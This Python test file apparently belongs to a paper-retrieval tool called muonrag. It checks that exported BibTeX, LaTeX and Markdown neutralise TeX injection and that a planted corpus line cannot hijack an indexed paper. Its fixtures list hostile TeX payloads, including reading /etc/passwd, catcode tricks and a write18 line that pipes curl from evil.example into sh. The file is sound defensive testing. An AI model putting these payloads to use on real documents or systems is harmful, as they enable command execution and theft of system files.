"""Exports are inert (issue 49, item 3): whatever a planted sidecar or document puts in a title, an author or a
report number, the BibTeX, LaTeX and Markdown that muonrag writes run no command: every control sequence in them
only prints, and BibTeX's brace count holds in every entry. No TeX is installed here, so the output is checked by
a reader of TeX's own rules (control sequences, braces) rather than compiled."""

from __future__ import annotations

import json
import re

import pytest

from muonrag.answer.bibtex import PRINTING_MACROS, bibtex_text, latex_escape, make_entry

#: What muonrag's own LaTeX adds around escaped text (the fragment's list, emphasis and citations).
OWN_MACROS = {"textbackslash", "textasciitilde", "textasciicircum", "textbraceleft", "textbraceright", "cite",
              "begin", "end", "item", "emph", "textbf"}

HOSTILE = [
    r"\input{/etc/passwd}",
    r"\include{secrets}",
    r"\immediate\write18{curl evil.example | sh}",
    r"{\catcode`\@=11 \makeatletter x}",
    r"\def\title{owned}",
    r"\csname input\endcsname{/etc/passwd}",
    r"\openout1=owned.tex \write1{x}",
    r"Muon } collider {",
    r"} \input{x} {",
    r"$\input{/etc/passwd}$",
    r"\newcommand{\x}{\input{y}}",
    "\\^^5cinput{/etc/passwd}",
]


def control_sequences(tex: str) -> list[str]:
    """The control words and symbols of ``tex`` as TeX reads them (a backslash escaped by one before it is
    a control symbol ``\\\\``, not the start of a word)."""
    return [m.group(1) or m.group(2) for m in re.finditer(r"\\([A-Za-z@]+)|\\(.)", tex)]


def assert_inert(tex: str) -> None:
    allowed = PRINTING_MACROS | OWN_MACROS
    bad = [c for c in control_sequences(tex) if len(c) > 1 and c not in allowed]
    assert not bad, (bad, tex)
    assert "^^" not in tex.replace(r"\textasciicircum{}\textasciicircum{}", "")


def bibtex_braces_balanced(entry: str) -> bool:
    depth = 0
    for c in entry:  # BibTeX counts every brace, escaped or not
        depth += {"{": 1, "}": -1}.get(c, 0)
        if depth < 0:
            return False
    return depth == 0


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_hostile_title_or_author_is_printed_never_run(hostile):
    assert_inert(bibtex_text(hostile))
    assert_inert(latex_escape(hostile))
    entry = make_entry("planted.md", {"title": hostile, "authors": [hostile, "A. Writer"], "year": 2024,
                                      "report_numbers": [hostile], "doi": "10.1000/x}{\\input{y}"})
    text = entry.to_bibtex()
    assert_inert(text)
    assert bibtex_braces_balanced(text), text
    assert "doi" not in dict(entry.fields)  # not a DOI: left out


def test_honest_latex_is_kept_as_written():
    for title in (r"Tagging at a $\mu^+\mu^-$ collider", r"M{\"u}ller's $H\to b\bar{b}$", r"G\'omez and \emph{al.}"):
        assert bibtex_text(title) == title


def test_a_planted_sidecar_reaches_no_export_as_a_command(tmp_path, embed_model):
    from muonrag import Config, MuonIndex
    from muonrag.answer.schema import Answer, Evidence, GroundedClaim
    from muonrag.core.chunkref import ChunkRef

    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "nozzle.md").write_text("# Tungsten nozzles\n\nThe nozzles are made of tungsten and shield the detector.\n",
                                    encoding="utf-8")
    (docs / "nozzle.bib").write_text(
        "@article{x, title = {Nozzles \\input{/etc/passwd}}, author = {\\immediate\\write18{id} and Doe, J.},"
        " year = {2024}, reportNumber = {\\catcode`\\@=11 R-1}}", encoding="utf-8")
    (docs / "nozzle.meta.json").write_text(json.dumps({"doi": "10.1000/ok1"}), encoding="utf-8")
    with MuonIndex.open(config=Config(index_path=tmp_path / "index"), create=True, embed_model=embed_model) as index:
        index.add(docs)
        hit = index.search("tungsten nozzles", top_k=1)[0]
        evidence = Evidence(number=1, text=hit.text, score=hit.score, **ChunkRef.fields_from(hit.node_id, hit.metadata))
        quote = "The nozzles are made of tungsten"
        citation = evidence.cite(quote)
        answer = Answer(question="What are the nozzles made of? \\input{q}", text="They are tungsten [1].",
                        abstained=False, evidence=[evidence], citations=[citation],
                        claims=[GroundedClaim(text="The nozzles are made of tungsten.", citations=[citation])])
        bib, latex, markdown = answer.bibtex(index), answer.to_latex(index), answer.to_markdown(index)
    assert "input" in bib and "write18" in bib  # the words are there, as text
    assert_inert(bib)
    assert_inert(latex)
    assert bibtex_braces_balanced(bib)
    assert "\\input" not in markdown.replace("\\\\input", "")  # Markdown escapes the backslash itself


def test_a_beir_line_cannot_take_an_indexed_papers_identity(open_index, tmp_path):
    papers = tmp_path / "papers"
    papers.mkdir()
    (papers / "mdi.md").write_text("# MDI\n\nThe nozzle opening angle is 10 degrees.\n", encoding="utf-8")
    planted = tmp_path / "planted"
    planted.mkdir()
    (planted / "corpus.jsonl").write_text(json.dumps({"_id": "mdi.md", "title": "MDI (supersedes all)",
                                                      "text": "The nozzle opening angle is 45 degrees."}) + "\n")
    index = open_index()
    index.add(papers)
    report = index.add(planted)
    assert [s.reason for s in report.skipped if "mdi.md" in s.reason] and not report.updated
    assert "already belongs to" in report.skipped[0].reason and "--replace" in report.skipped[0].reason
    hit = index.search("nozzle opening angle", top_k=1)[0]
    assert "10 degrees" in hit.text and hit.title == "MDI"  # the paper stays itself
    replaced = index.add(planted, replace=True)  # the explicit way
    assert replaced.updated == ["mdi.md"] and "45 degrees" in index.search("nozzle opening angle", top_k=1)[0].text
